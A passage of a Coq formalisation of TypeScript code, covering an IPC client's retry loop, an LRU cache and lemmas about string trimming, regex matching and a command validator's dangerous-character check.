  | AttemptsError (channel : jsstring) (maxAttempts : spec_float).
      (* [new Error(`IPC call to '${channel}' failed after
         ${maxAttempts} attempts`)] *)

Definition isIPCTimeoutError (e : thrown) : bool :=
  match e with
  | IPCTimeoutError _ _ => true
  | _ => false
  end.

(** [error instanceof Error ? error : new Error(String(error))] *)
Definition asError (e : thrown) : thrown :=
  match e with
  | NonError v => StringifiedError v
  | _ => e
  end.

(** How a promise settles. *)
Inductive settled (T : Type) : Type :=
  | Resolved (v : T)
  | Rejected (e : thrown).

Arguments Resolved {T} _.
Arguments Rejected {T} _.

(** What [invokeWithTimeout] does besides settling: calls of
    [invokeFunction] and waits between retries. *)
Inductive event : Type :=
  | Invoke
  | Delay (ms : spec_float).

(** The [while (attempts < maxAttempts)] loop.  [attempt n] is how
    [withTimeout(invokeFunction(), timeout, channel)] settles at the
    [n]-th call of [invokeFunction]; [attempts] counts the calls made, a
    whole number, which [attempts++] keeps exact up to [2^53] calls; the
    code after the loop is reached when the loop condition fails.  With an
    infinite [maxAttempts] and attempts that keep timing out the loop does
    not end: [None] is a run that needs more than [fuel] iterations. *)
Fixpoint retryLoop {T : Type} (attempt : nat -> settled T)
  (channel : jsstring) (maxAttempts delayMs : spec_float) (fuel : nat)
  (attempts : nat) (lastError : option thrown) (trace : list event)
  : option (settled T * list event) :=
  match fuel with
  | O => None
  | S fuel' =>
      if whole_lt (Z.of_nat attempts) maxAttempts then
        let attempts' := S attempts in
        match attempt attempts' with
        | Resolved v => Some (Resolved v, trace ++ [Invoke])
        | Rejected e =>
            if isIPCTimeoutError e
               && whole_lt (Z.of_nat attempts') maxAttempts
            then retryLoop attempt channel maxAttempts delayMs fuel'
                   attempts' (Some (asError e))
                   (trace ++ [Invoke; Delay delayMs])
            else Some (Rejected e, trace ++ [Invoke])
        end
      else
        Some (Rejected (match lastError with
                        | Some e => e
                        | None => AttemptsError channel maxAttempts
                        end), trace)
  end.

(** A destructuring default: it applies when the property is
    [undefined]. *)
Definition orDefault (x : option spec_float) (d : spec_float) : spec_float :=
  match x with
  | Some v => v
  | None => d
  end.

(** [const maxAttempts = retries + 1] *)
Definition maxAttempts (options : IPCCallOptions) : spec_float :=
  number_add (orDefault (retries options) zero) one.

Definition invokeWithTimeout {T : Type} (fuel : nat)
  (attempt : nat -> settled T) (channel : jsstring)
  (options : IPCCallOptions) : option (settled T * list event) :=
  let retryDelay := orDefault (retryDelay options) (of_pos 1000) in
  retryLoop attempt channel (maxAttempts options) retryDelay fuel 0 None [].



(** The doubles [-0.5] and [2.5]. *)
Definition minus_half : spec_float := S754_finite true 4503599627370496 (-53).
Definition two_and_a_half : spec_float :=
  S754_finite false 5629499534213120 (-51).

End IPCClient.

(* ===================================================================== *)
(** * cacheManager.ts                                                     *)
(* ===================================================================== *)

Module LRUCache.

Definition DEFAULT_MAX_SIZE : Q := inject_Z 1000.
Definition DEFAULT_MAX_AGE : Q := inject_Z 300000.

Section Cache.

Context {K V : Type}.

(** Key equality of [Map] (SameValueZero). *)
Variable key_eq_dec : forall a b : K, {a = b} + {a <> b}.

(** [key === undefined], for key types that admit [undefined]. *)
Variable isUndefined : K -> bool.

Record CacheEntry : Type := {
  value : V;
  timestamp : Z
}.

(** A [Map]: its entries in insertion order, one per key. *)
Definition JSMap : Type := list (K * CacheEntry).

(** [Map.prototype.get] *)
Fixpoint Map_get (key : K) (m : JSMap) : option CacheEntry :=
  match m with
  | [] => None
  | (k, e) :: rest => if key_eq_dec key k then Some e else Map_get key rest
  end.

(** [Map.prototype.has] *)
Definition Map_has (key : K) (m : JSMap) : bool :=
  match Map_get key m with
  | Some _ => true
  | None => false
  end.

(** [Map.prototype.delete]: the remaining entries keep their order. *)
Fixpoint Map_delete (key : K) (m : JSMap) : JSMap :=
  match m with
  | [] => []
  | (k, e) :: rest =>
      if key_eq_dec key k then rest else (k, e) :: Map_delete key rest
  end.

(** [Map.prototype.set]: a present key keeps its position, a new key goes
    last. *)
Fixpoint Map_set (key : K) (entry : CacheEntry) (m : JSMap) : JSMap :=
  match m with
  | [] => [(key, entry)]
  | (k, e) :: rest =>
      if key_eq_dec key k then (key, entry) :: rest
      else (k, e) :: Map_set key entry rest
  end.

(** [map.keys().next().value]: [undefined] on an empty map. *)
Definition Map_firstKey (m : JSMap) : option K :=
  match m with
  | [] => None
  | (k, _) :: _ => Some k
  end.

(** The numbers [maxSize] and [maxAge] range over the finite numbers. *)
Record BoundedLRUCache : Type := {
  cache : JSMap;
  maxSize : Q;
  maxAge : Q
}.

(** The constructor: the message of the [Error] thrown, or the cache. *)
Definition create (maxSize maxAge : Q) : jsstring + BoundedLRUCache :=
  if Qle_bool maxSize 0 then inl (lit "maxSize must be a positive number")
  else if Qle_bool maxAge 0 then inl (lit "maxAge must be a positive number")
  else inr {| cache := []; maxSize := maxSize; maxAge := maxAge |}.

Definition withCache (c : BoundedLRUCache) (m : JSMap) : BoundedLRUCache :=
  {| cache := m; maxSize := maxSize c; maxAge := maxAge c |}.

(** [now - entry.timestamp > this.maxAge] *)
Definition isExpired (c : BoundedLRUCache) (now : Z) (entry : CacheEntry)
  : bool :=
  negb (Qle_bool (inject_Z (now - timestamp entry)) (maxAge c)).

(** [get]: [now] is the value of [Date.now()]. *)
Definition get (now : Z) (key : K) (c : BoundedLRUCache)
  : option V * BoundedLRUCache :=
  match Map_get key (cache c) with
  | None => (None, c)
  | Some entry =>
      if isExpired c now entry
      then (None, withCache c (Map_delete key (cache c)))
      else (Some (value entry),
            withCache c (Map_set key entry (Map_delete key (cache c))))
  end.

(** [this.cache.size >= this.maxSize] *)
Definition atCapacity (c : BoundedLRUCache) (m : JSMap) : bool :=
  Qle_bool (maxSize c) (inject_Z (Z.of_nat (List.length m))).

Definition set (now : Z) (key : K) (v : V) (c : BoundedLRUCache)
  : BoundedLRUCache :=
  let m1 := if Map_has key (cache c) then Map_delete key (cache c)
            else cache c in
  let m2 :=
    if atCapacity c m1 then
      match Map_firstKey m1 with
      | Some oldestKey =>
          if isUndefined oldestKey then m1 else Map_delete oldestKey m1
      | None => m1
      end
    else m1 in
  withCache c (Map_set key {| value := v; timestamp := now |} m2).

Definition delete (key : K) (c : BoundedLRUCache) : bool * BoundedLRUCache :=
  (Map_has key (cache c), withCache c (Map_delete key (cache c))).

Definition clear (c : BoundedLRUCache) : BoundedLRUCache := withCache c [].

Definition size (c : BoundedLRUCache) : nat := List.length (cache c).

Definition has (key : K) (c : BoundedLRUCache) : bool := Map_has key (cache c).

(** [cleanup]: deleting the entry under the iterator does not disturb the
    iteration, so the entries that are not expired remain, in order. *)
Definition cleanup (now : Z) (c : BoundedLRUCache) : BoundedLRUCache :=
  withCache c (filter (fun kv => negb (isExpired c now (snd kv))) (cache c)).

Definition keys (c : BoundedLRUCache) : list K := map fst (cache c).


Definition entries (c : BoundedLRUCache) : list (K * V) :=
  map (fun kv => (fst kv, value (snd kv))) (cache c).

(** One call on a cache, and a sequence of calls. *)
Inductive operation : Type :=
  | OpGet (now : Z) (key : K)
  | OpSet (now : Z) (key : K) (v : V)
  | OpDelete (key : K)
  | OpClear
  | OpCleanup (now : Z).

Definition perform (c : BoundedLRUCache) (op : operation) : BoundedLRUCache :=
  match op with
  | OpGet now key => snd (get now key c)
  | OpSet now key v => set now key v c
  | OpDelete key => snd (delete key c)
  | OpClear => clear c
  | OpCleanup now => cleanup now c
  end.

Definition run (ops : list operation) (c : BoundedLRUCache) : BoundedLRUCache :=
  fold_left perform ops c.

(** The key an operation stores, if any. *)
Definition storedKey (op : operation) : option K :=
  match op with
  | OpSet _ key _ => Some key
  | _ => None
  end.

(** No operation stores the key [undefined]. *)
Definition definedKeys (ops : list operation) : Prop :=
  Forall (fun op => match storedKey op with
                    | Some k => isUndefined k = false
                    | None => True
                    end) ops.

(** The size as a number. *)
Definition sizeQ (n : nat) : Q := inject_Z (Z.of_nat n).

(** What every cache built by [create] and the operations satisfies: a
    positive [maxSize], at most [maxSize] entries (rounded up), only
    defined keys, and one entry per key. *)
Definition wellFormed (c : BoundedLRUCache) : Prop :=
  (0 < maxSize c)%Q
  /\ (sizeQ (size c) < maxSize c + 1)%Q
  /\ Forall (fun k => isUndefined k = false) (keys c)
  /\ NoDup (keys c).

End Cache.

(** Keys that may be [undefined]: [None]. *)
Definition optionalKey_eq_dec (a b : option nat) : {a = b} + {a <> b}.
Proof. decide equality. apply Nat.eq_dec. Defined.

Definition isNone (k : option nat) : bool :=
  match k with
  | None => true
  | Some _ => false
  end.

End LRUCache.

(** A white-space-free, non-empty string without dangerous characters. *)
Definition safe_token (t : jsstring) : bool :=
  match t with
  | [] => false
  | _ => forallb (fun c => negb (isWhiteSpace c) && negb (is_dangerous c)) t
  end.

(** The characters of the npm and pip grammars. *)
Definition package_char (c : code_unit) : bool :=
  class_has InputValidator.NPM_TAIL c || class_has InputValidator.PIP_INNER c
  || N.eqb c 64 || N.eqb c 47.

(* ===================================================================== *)
(** * Reading a header value back                                         *)
(* ===================================================================== *)

(** The serialized-policy syntax of Content Security Policy: directives
    are separated by semicolons, a directive is a name followed by its
    tokens, separated by ASCII white space, and directive names are
    ASCII case-insensitive. *)
Module CSPSyntax.



















End CSPSyntax.

(* ===================================================================== *)
(** * Strings: equality, trimming, splitting                              *)
(* ===================================================================== *)

Section StringFacts.

Lemma str_eqb_eq (a b : jsstring) : str_eqb a b = true <-> a = b.
Proof.
  revert b; induction a as [|x a IH]; intros [|y b]; simpl;
    try (split; [discriminate | congruence]); try tauto.
  rewrite andb_true_iff, N.eqb_eq, IH. split.
  - intros [-> ->]; reflexivity.
  - intros E; injection E; auto.
Qed.

Lemma includes_In (l : list jsstring) (s : jsstring) :
  includes l s = true <-> In s l.
Proof.
  unfold includes. rewrite existsb_exists. split.
  - intros (x & Hin & E). apply str_eqb_eq in E. subst; auto.
  - intros H. exists s. split; auto. apply str_eqb_eq; reflexivity.
Qed.

Lemma includes_char_In (l : list code_unit) (c : code_unit) :
  includes_char l c = true <-> In c l.
Proof.
  unfold includes_char. rewrite existsb_exists. split.
  - intros (x & Hin & E). apply N.eqb_eq in E. subst; auto.
  - intros H. exists c. split; auto. apply N.eqb_refl.
Qed.

(** No dangerous character is white space. *)
Lemma dangerous_not_space (c : code_unit) :
  is_dangerous c = true -> isWhiteSpace c = false.
Proof.
  unfold is_dangerous. rewrite includes_char_In. simpl.
  intros H. repeat (destruct H as [<- | H]; [reflexivity |]). contradiction.
Qed.

Lemma trimStart_split (s : jsstring) :
  exists l, s = l ++ trimStart s /\ forallb isWhiteSpace l = true.
Proof.
  induction s as [|c r (l & E & Hl)]; simpl.
  - exists []. auto.
  - destruct (isWhiteSpace c) eqn:Hc.
    + exists (c :: l). simpl. rewrite Hc, Hl. split; [f_equal; exact E | reflexivity].
    + exists []. auto.
Qed.

Lemma trimStart_head (s : jsstring) (c : code_unit) (r : jsstring) :
  trimStart s = c :: r -> isWhiteSpace c = false.
Proof.
  induction s as [|x s IH]; simpl; [discriminate |].
  destruct (isWhiteSpace x) eqn:Hx; auto.
  intros E; injection E as -> _; assumption.
Qed.

Lemma ends_clean_snoc (s : jsstring) (c : code_unit) :
  ends_clean (s ++ [c]) = negb (isWhiteSpace c).
Proof.
  induction s as [|x s IH]; simpl; auto.
  destruct (s ++ [c]) eqn:E; auto.
  destruct s; discriminate.
Qed.

Lemma trimStart_app_clean (a b : jsstring) (c : code_unit) :
  isWhiteSpace c = false ->
  exists y, trimStart (a ++ c :: b) = y ++ c :: b /\
            exists x, a = x ++ y.
Proof.
  intros Hc. induction a as [|x a (y & E & (x' & Ea))]; simpl.
  - rewrite Hc. exists []. split; auto. exists []; auto.
  - destruct (isWhiteSpace x).
    + exists y. split; auto. exists (x :: x'). simpl; congruence.
    + exists (x :: a). split; auto. exists []; auto.
Qed.

(** A trimmed string is a factor of the input between two runs of white
    space, and it neither starts nor ends with white space. *)
Lemma trim_decompose (s : jsstring) :
  exists l r,
    s = l ++ trim s ++ r
    /\ forallb isWhiteSpace l = true
    /\ forallb isWhiteSpace r = true
    /\ (trim s = [] \/
        ends_clean (trim s) = true
        /\ exists c t, trim s = c :: t /\ isWhiteSpace c = false).
Proof.
  unfold trim, trimEnd.
  destruct (trimStart_split s) as (l & Es & Hl).
  destruct (trimStart_split (rev (trimStart s))) as (r & Er & Hr).
  exists l, (rev r). repeat split; auto.
  - rewrite Es at 1. f_equal.
    rewrite <- rev_app_distr, <- Er, rev_involutive. reflexivity.
  - rewrite forallb_forall in *. intros x Hx. apply Hr, in_rev; assumption.
  - destruct (trimStart (rev (trimStart s))) as [|d u] eqn:Eu; [left; auto|].
    right. pose proof (trimStart_head _ _ _ Eu) as Hd.
    split.
    + simpl. rewrite ends_clean_snoc, Hd. reflexivity.
    + destruct (trimStart s) as [|c t] eqn:Et.
      * simpl in Eu. discriminate.
      * pose proof (trimStart_head _ _ _ Et) as Hc.
        simpl in Eu.
        destruct (trimStart_app_clean (rev t) [] c Hc) as (y & Ey & _).
        rewrite Eu in Ey. rewrite Ey.
        rewrite rev_app_distr. simpl. eauto.
Qed.

Lemma trim_nil_iff (s : jsstring) :
  trim s = [] <-> forallb isWhiteSpace s = true.
Proof.
  destruct (trim_decompose s) as (l & r & E & Hl & Hr & Hc). split.
  - intros Ht. rewrite Ht in E. simpl in E. rewrite E.
    rewrite forallb_app, Hl, Hr. reflexivity.
  - intros Hs. destruct Hc as [Ht | (_ & c & t & Ht & Hws)]; auto.
    rewrite E, Ht in Hs. rewrite forallb_app in Hs. simpl in Hs.
    rewrite Hws in Hs. rewrite andb_false_r in Hs. discriminate.
Qed.

(** Trimming keeps every character that is not white space. *)
Lemma trim_keeps (s : jsstring) (c : code_unit) :
  In c s -> isWhiteSpace c = false -> In c (trim s).
Proof.
  destruct (trim_decompose s) as (l & r & E & Hl & Hr & _).
  intros Hin Hc. rewrite E in Hin.
  rewrite forallb_forall in Hl, Hr.
  apply in_app_or in Hin. destruct Hin as [Hin | Hin].
  - apply Hl in Hin. congruence.
  - apply in_app_or in Hin. destruct Hin as [Hin | Hin]; auto.
    apply Hr in Hin. congruence.
Qed.

Lemma trim_incl (s : jsstring) (c : code_unit) : In c (trim s) -> In c s.
Proof.
  destruct (trim_decompose s) as (l & r & E & _).
  intros H. rewrite E. apply in_or_app. right. apply in_or_app. auto.
Qed.

End StringFacts.

(* ===================================================================== *)
(** * Regular expressions: the matcher decides the language               *)
(* ===================================================================== *)

Section RegexFacts.

Lemma Matches_void (s : jsstring) : Matches Void s <-> False.
Proof. split; [intros H; inversion H | contradiction]. Qed.

Lemma Matches_eps (s : jsstring) : Matches Eps s <-> s = [].
Proof.
  split; [intros H; inversion H; reflexivity | intros ->; constructor].
Qed.

Lemma Matches_any (s : jsstring) : Matches AnyChar s <-> exists c, s = [c].
Proof.
  split; [intros H; inversion H; eauto | intros (c & ->); constructor].
Qed.

Lemma Matches_class (items : list class_item) (s : jsstring) :
  Matches (Class items) s <-> exists c, s = [c] /\ class_has items c = true.
Proof.
  split.
  - intros H; inversion H; subst; eauto.
  - intros (c & -> & Hc). constructor; assumption.
Qed.

Lemma Matches_cat (r1 r2 : regex) (s : jsstring) :
  Matches (Cat r1 r2) s <->
  exists s1 s2, s = s1 ++ s2 /\ Matches r1 s1 /\ Matches r2 s2.
Proof.
  split.
  - intros H; inversion H; subst; eauto.
  - intros (s1 & s2 & -> & H1 & H2). constructor; assumption.
Qed.

Lemma Matches_alt (r1 r2 : regex) (s : jsstring) :
  Matches (Alt r1 r2) s <-> Matches r1 s \/ Matches r2 s.
Proof.
  split.
  - intros H; inversion H; subst; auto.
  - intros [H | H]; [apply MAltL | apply MAltR]; assumption.
Qed.

Lemma Matches_opt (r : regex) (s : jsstring) :
  Matches (Opt r) s <-> s = [] \/ Matches r s.
Proof. unfold Opt. rewrite Matches_alt, Matches_eps. tauto. Qed.

Lemma nullable_Matches (r : regex) : nullable r = true <-> Matches r [].
Proof.
  induction r; simpl.
  - rewrite Matches_void. split; [discriminate | contradiction].
  - rewrite Matches_eps. tauto.
  - rewrite Matches_class. split; [discriminate |].
    intros (c & E & _); discriminate.
  - rewrite Matches_any. split; [discriminate |].
    intros (c & E); discriminate.
  - rewrite andb_true_iff, IHr1, IHr2, Matches_cat. split.
    + intros [H1 H2]. exists [], []. auto.
    + intros (s1 & s2 & E & H1 & H2). symmetry in E.
      apply app_eq_nil in E. destruct E; subst; auto.
  - rewrite orb_true_iff, IHr1, IHr2, Matches_alt. tauto.
  - split; [constructor | reflexivity].
Qed.

(** A non-empty match of [r*] starts with a non-empty match of [r]. *)
Lemma Matches_star_cons (r : regex) (c : code_unit) (s : jsstring) :
  Matches (Star r) (c :: s) ->
  exists s1 s2, s = s1 ++ s2 /\ Matches r (c :: s1) /\ Matches (Star r) s2.
Proof.
  intros H. remember (Star r) as R eqn:ER. remember (c :: s) as w eqn:Ew.
  revert s Ew.
  induction H as [| | | | | | |r0 s1 s2 H1 _ H2 IH2]; try discriminate.
  injection ER as ->. intros s Ew.
  destruct s1 as [|x s1]; simpl in Ew.
  - apply IH2; auto.
  - injection Ew as -> <-. exists s1, s2. auto.
Qed.

Lemma deriv_Matches (r : regex) (c : code_unit) (s : jsstring) :
  Matches (deriv c r) s <-> Matches r (c :: s).
Proof.
  revert s. induction r; intros s; simpl.
  - rewrite !Matches_void. tauto.
  - rewrite Matches_void, Matches_eps. split; [contradiction | discriminate].
  - rewrite Matches_class. destruct (class_has items c) eqn:Hc.
    + rewrite Matches_eps. split.
      * intros ->. eauto.
      * intros (x & E & _). injection E as _ ->. reflexivity.
    + rewrite Matches_void. split; [contradiction |].
      intros (x & E & Hx). injection E as -> _. congruence.
  - rewrite Matches_eps, Matches_any. split.
    + intros ->. eauto.
    + intros (x & E). injection E as _ ->. reflexivity.
  - assert (Hcat : Matches (Cat (deriv c r1) r2) s <->
                   exists s1 s2, s = s1 ++ s2 /\ Matches r1 (c :: s1)
                                 /\ Matches r2 s2).
    { rewrite Matches_cat. split; intros (s1 & s2 & E & H1 & H2);
        exists s1, s2; repeat split; auto; apply IHr1; assumption. }
    rewrite (Matches_cat r1 r2).
    destruct (nullable r1) eqn:Hn.
    + rewrite Matches_alt, Hcat, IHr2. split.
      * intros [(s1 & s2 & -> & H1 & H2) | H].
        -- exists (c :: s1), s2. auto.
        -- exists [], (c :: s). repeat split; auto.
           apply nullable_Matches; assumption.
      * intros (s1 & s2 & E & H1 & H2). destruct s1 as [|x s1]; simpl in E.
        -- subst s2. right; assumption.
        -- injection E as <- ->. left. eauto.
    + rewrite Hcat. split.
      * intros (s1 & s2 & -> & H1 & H2). exists (c :: s1), s2. auto.
      * intros (s1 & s2 & E & H1 & H2). destruct s1 as [|x s1]; simpl in E.
        -- apply nullable_Matches in H1. congruence.
        -- injection E as <- ->. eauto.
  - rewrite !Matches_alt, IHr1, IHr2. tauto.
  - rewrite Matches_cat. split.
    + intros (s1 & s2 & -> & H1 & H2). apply IHr in H1.
      apply (MStarApp _ (c :: s1) s2 H1 H2).
    + intros H. apply Matches_star_cons in H.
      destruct H as (s1 & s2 & -> & H1 & H2).
      exists s1, s2. repeat split; auto. apply IHr; assumption.
Qed.

(** [full_match] decides membership in the language of the pattern. *)
Theorem full_match_Matches (r : regex) (s : jsstring) :
  full_match r s = true <-> Matches r s.
Proof.
  revert r. induction s as [|c s IH]; intros r; simpl.
  - apply nullable_Matches.
  - rewrite IH. apply deriv_Matches.
Qed.

Lemma Matches_any_star (s : jsstring) : Matches (Star AnyChar) s.
Proof.
  induction s as [|c s IH]; [constructor |].
  apply (MStarApp _ [c] s); [constructor | assumption].
Qed.

(** An unanchored pattern is found when some factor of the string is in
    its language. *)
Lemma search_factor (r : regex) (s : jsstring) :
  search r s = true <->
  exists pre mid suf, s = pre ++ mid ++ suf /\ Matches r mid.
Proof.
  unfold search. rewrite full_match_Matches, Matches_cat. split.
  - intros (pre & rest & -> & _ & H2). apply Matches_cat in H2.
    destruct H2 as (mid & suf & -> & Hm & _). exists pre, mid, suf. auto.
  - intros (pre & mid & suf & -> & Hm).
    exists pre, (mid ++ suf). repeat split; [apply Matches_any_star |].
    constructor; [assumption | apply Matches_any_star].
Qed.

Lemma Matches_class_star (items : list class_item) (s : jsstring) :
  Matches (Star (Class items)) s <-> forallb (class_has items) s = true.
Proof.
  split.
  - revert s.
    assert (G : forall R s, Matches R s -> R = Star (Class items) ->
                            forallb (class_has items) s = true).
    { intros R s H. induction H as [| | | | | | |r0 s1 s2 H1 _ _ IH2];
        try discriminate; intros ER; [reflexivity |].
      injection ER as ->. apply Matches_class in H1.
      destruct H1 as (c & -> & Hc). simpl. rewrite Hc. auto. }
    intros s H. apply (G _ _ H eq_refl).
  - induction s as [|c s IH]; simpl; [constructor |].
    rewrite andb_true_iff. intros [Hc Hs].
    apply (MStarApp _ [c] s); [constructor; assumption | auto].
Qed.

(** Searching a one-character class is testing every character. *)
Lemma search_class (items : list class_item) (s : jsstring) :
  search (Class items) s = existsb (class_has items) s.
Proof.
  apply eq_true_iff_eq. rewrite search_factor, existsb_exists. split.
  - intros (pre & mid & suf & -> & Hm).
    apply Matches_class in Hm. destruct Hm as (c & -> & Hc).
    exists c. split; auto. apply in_or_app. right. left. reflexivity.
  - intros (c & Hin & Hc). apply in_split in Hin.
    destruct Hin as (pre & suf & ->).
    exists pre, [c], suf. split; auto. constructor; assumption.
Qed.

End RegexFacts.

(* ===================================================================== *)
(** * Tokens: [split] on trimmed input yields the words                   *)
(* ===================================================================== *)

Section TokenFacts.

Lemma split_ws_from_flag (b b' : bool) (c : code_unit) (r : jsstring) :
  isWhiteSpace c = false ->
  split_ws_from b (c :: r) = split_ws_from b' (c :: r).
Proof. intros H; simpl; rewrite H; reflexivity. Qed.

Lemma ends_clean_cons (c d : code_unit) (r : jsstring) :
  ends_clean (c :: d :: r) = ends_clean (d :: r).
Proof. reflexivity. Qed.

(** One unfolding step of [words], [split_ws_from] and [collapse_from] on
    a string of two characters or more. *)
Lemma words_cons (c d : code_unit) (r : jsstring) :
  words (c :: d :: r) =
  if isWhiteSpace c then words (d :: r)
  else if isWhiteSpace d then [c] :: words (d :: r)
       else match words (d :: r) with
            | w :: ws => (c :: w) :: ws
            | [] => [[c]]
            end.
Proof. reflexivity. Qed.

Lemma split_ws_from_cons (c d : code_unit) (r : jsstring) :
  split_ws_from true (c :: d :: r) =
  if isWhiteSpace c then split_ws_from true (d :: r)
  else match split_ws_from false (d :: r) with
       | piece :: pieces => (c :: piece) :: pieces
       | [] => [[c]]
       end.
Proof. reflexivity. Qed.

Lemma collapse_from_cons (c d : code_unit) (r : jsstring) :
  collapse_from true (c :: d :: r) =
  if isWhiteSpace c then collapse_from true (d :: r)
  else c :: collapse_from false (d :: r).
Proof. reflexivity. Qed.

(** After a separator run, the pieces of a string that does not end with
    white space are its words. *)
Lemma split_ws_from_words (s : jsstring) :
  ends_clean s = true -> split_ws_from true s = words s.
Proof.
  induction s as [|c r IH]; [discriminate |].
  destruct r as [|d r'].
  - simpl. intros H. destruct (isWhiteSpace c); [discriminate | reflexivity].
  - rewrite ends_clean_cons. intros H. specialize (IH H).
    rewrite split_ws_from_cons.
    rewrite words_cons.
    destruct (isWhiteSpace c); [exact IH |].
    destruct (isWhiteSpace d) eqn:Hd.
    + rewrite <- IH. simpl. rewrite Hd. reflexivity.
    + rewrite (split_ws_from_flag false true d r' Hd), IH. reflexivity.
Qed.

(** White space after the last word adds no word. *)
Lemma words_app_space (s r : jsstring) :
  forallb isWhiteSpace r = true -> words (s ++ r) = words s.
Proof.
  intros Hr.
  assert (Hnil : words r = []).
  { induction r as [|x r IHr]; simpl in *; auto.
    apply andb_true_iff in Hr. destruct Hr as [Hx Hr]. rewrite Hx. auto. }
  induction s as [|c s IH]; simpl; auto.
  destruct (isWhiteSpace c); auto.
  destruct s as [|d s']; simpl in *.
  - destruct r as [|x r']; auto.
    simpl in Hr. apply andb_true_iff in Hr. destruct Hr as [Hx _].
    rewrite Hx. rewrite Hnil. reflexivity.
  - destruct (isWhiteSpace d); rewrite IH; reflexivity.
Qed.

Lemma words_space_app (l s : jsstring) :
  forallb isWhiteSpace l = true -> words (l ++ s) = words s.
Proof.
  induction l as [|x l IH]; simpl; auto.
  intros H. apply andb_true_iff in H. destruct H as [Hx Hl].
  rewrite Hx. auto.
Qed.

(** Trimming does not change the words of a string. *)
Lemma words_trim (s : jsstring) : words (trim s) = words s.
Proof.
  destruct (trim_decompose s) as (l & r & E & Hl & Hr & _).
  rewrite E at 2. rewrite words_space_app, words_app_space; auto.
Qed.

(** The array [trimmedCommand.split(/\s+/)] holds the words of the
    command. *)
Lemma split_ws_trim (s : jsstring) :
  trim s <> [] -> split_ws (trim s) = words s.
Proof.
  intros Hne. destruct (trim_decompose s) as (_ & _ & _ & _ & _ & Hc).
  destruct Hc as [Ht | (Hend & c & t & Ht & Hws)]; [contradiction |].
  rewrite <- words_trim, <- split_ws_from_words by assumption.
  unfold split_ws. rewrite Ht. apply split_ws_from_flag; assumption.
Qed.

Lemma words_nonempty (s : jsstring) :
  ends_clean s = true -> words s <> [].
Proof.
  induction s as [|c r IH]; [discriminate |].
  destruct r as [|d r'].
  - simpl. destruct (isWhiteSpace c); discriminate.
  - rewrite ends_clean_cons. intros H. specialize (IH H).
    rewrite words_cons.
    destruct (isWhiteSpace c); auto.
    destruct (isWhiteSpace d); [discriminate |].
    destruct (words (d :: r')); discriminate.
Qed.

(** A command that is not blank has a first token. *)
Lemma first_token_some (s : jsstring) :
  trim s <> [] -> exists b rest, words s = b :: rest.
Proof.
  intros Hne. destruct (trim_decompose s) as (_ & _ & _ & _ & _ & Hc).
  destruct Hc as [Ht | (Hend & _)]; [contradiction |].
  apply words_nonempty in Hend. rewrite words_trim in Hend.
  destruct (words s) as [|b rest]; [contradiction | eauto].
Qed.

Lemma words_blank (s : jsstring) : trim s = [] -> words s = [].
Proof. intros H. rewrite <- words_trim, H. reflexivity. Qed.

(** Every character of a word is a character of the string. *)
Lemma words_incl (s : jsstring) (w : jsstring) (c : code_unit) :
  In w (words s) -> In c w -> In c s.
Proof.
  revert w. induction s as [|x r IH]; simpl; [contradiction |].
  intros w. destruct (isWhiteSpace x).
  - intros Hw Hc. right. eapply IH; eauto.
  - destruct r as [|d r'].
    + intros [<- | []] Hc. exact Hc.
    + destruct (isWhiteSpace d).
      * intros [<- | Hw] Hc.
        -- destruct Hc as [-> | []]. left; reflexivity.
        -- right. eapply IH; eauto.
      * destruct (words (d :: r')) as [|w0 ws] eqn:Ew.
        -- intros [<- | []] Hc. destruct Hc as [-> | []]. left; reflexivity.
        -- intros [<- | Hw] Hc.
           ++ destruct Hc as [-> | Hc]; [left; reflexivity |].
              right. apply (IH w0); [left; reflexivity | exact Hc].
           ++ right. apply (IH w); [right; exact Hw | exact Hc].
Qed.

Lemma join_cons_char (sep : jsstring) (c : code_unit) (w : jsstring)
  (l : list jsstring) :
  join sep ((c :: w) :: l) = c :: join sep (w :: l).
Proof. destruct l; reflexivity. Qed.

Lemma collapse_from_flag (b b' : bool) (c : code_unit) (r : jsstring) :
  isWhiteSpace c = false ->
  collapse_from b (c :: r) = collapse_from b' (c :: r).
Proof. intros H; simpl; rewrite H; reflexivity. Qed.

(** Joining the words with one space collapses the runs of white space. *)
Lemma join_words_collapse (s : jsstring) :
  ends_clean s = true -> join [32%N] (words s) = collapse_from true s.
Proof.
  induction s as [|c r IH]; [discriminate |].
  destruct r as [|d r'].
  - simpl. destruct (isWhiteSpace c); [discriminate | reflexivity].
  - rewrite ends_clean_cons. intros H. specialize (IH H).
    pose proof (words_nonempty _ H) as Hne.
    rewrite words_cons.
    rewrite collapse_from_cons.
    destruct (isWhiteSpace c); [exact IH |].
    destruct (isWhiteSpace d) eqn:Hd.
    + destruct (words (d :: r')) as [|w ws] eqn:Ew; [contradiction |].
      change (join [32%N] ([c] :: w :: ws))
        with (c :: 32%N :: join [32%N] (w :: ws)).
      rewrite IH. simpl. rewrite Hd. reflexivity.
    + destruct (words (d :: r')) as [|w ws] eqn:Ew; [contradiction |].
      rewrite join_cons_char, IH.
      rewrite (collapse_from_flag false true d r' Hd). reflexivity.
Qed.

End TokenFacts.

(* ===================================================================== *)
(** * commandValidator.ts: escaping                                       *)
(* ===================================================================== *)

Section EscapeFacts.

Import CommandValidator.

Lemma dangerous_class_is (c : code_unit) :
  class_has DANGEROUS_CLASS c = is_dangerous c.
Proof. reflexivity. Qed.

(** [containsDangerousChars] tests every character against the set. *)
Lemma containsDangerousChars_existsb (s : jsstring) :
  containsDangerousChars s = existsb is_dangerous s.
Proof.
  destruct s as [|c r]; [reflexivity |].
  unfold containsDangerousChars, DANGEROUS_PATTERNS.
  rewrite search_class. reflexivity.
Qed.

Lemma has_dangerous_existsb (s : jsstring) :
  has_dangerous s <-> existsb is_dangerous s = true.
Proof. unfold has_dangerous. rewrite existsb_exists. tauto. Qed.

(** The dangerous set is the backslash together with [dangerousChars]. *)
Lemma is_dangerous_split (c : code_unit) :
  is_dangerous c = N.eqb c backslash || includes_char dangerousChars c.
Proof.
  apply eq_true_iff_eq. unfold is_dangerous.
  rewrite orb_true_iff, !includes_char_In, N.eqb_eq.
  unfold backslash, dangerousChars, dangerous_set. simpl.
  intuition (subst; auto 20).
Qed.

Lemma backslash_not_listed : includes_char dangerousChars backslash = false.
Proof. reflexivity. Qed.

Lemma nth_error_middle (pre suf : jsstring) (c : code_unit) :
  nth_error (pre ++ c :: suf) (List.length pre) = Some c.
Proof.
  rewrite nth_error_app2 by lia. rewrite Nat.sub_diag. reflexivity.
Qed.

Lemma nth_error_after (pre suf : jsstring) (c : code_unit) :
  nth_error (pre ++ c :: suf) (List.length pre + 1) = nth_error suf 0.
Proof.
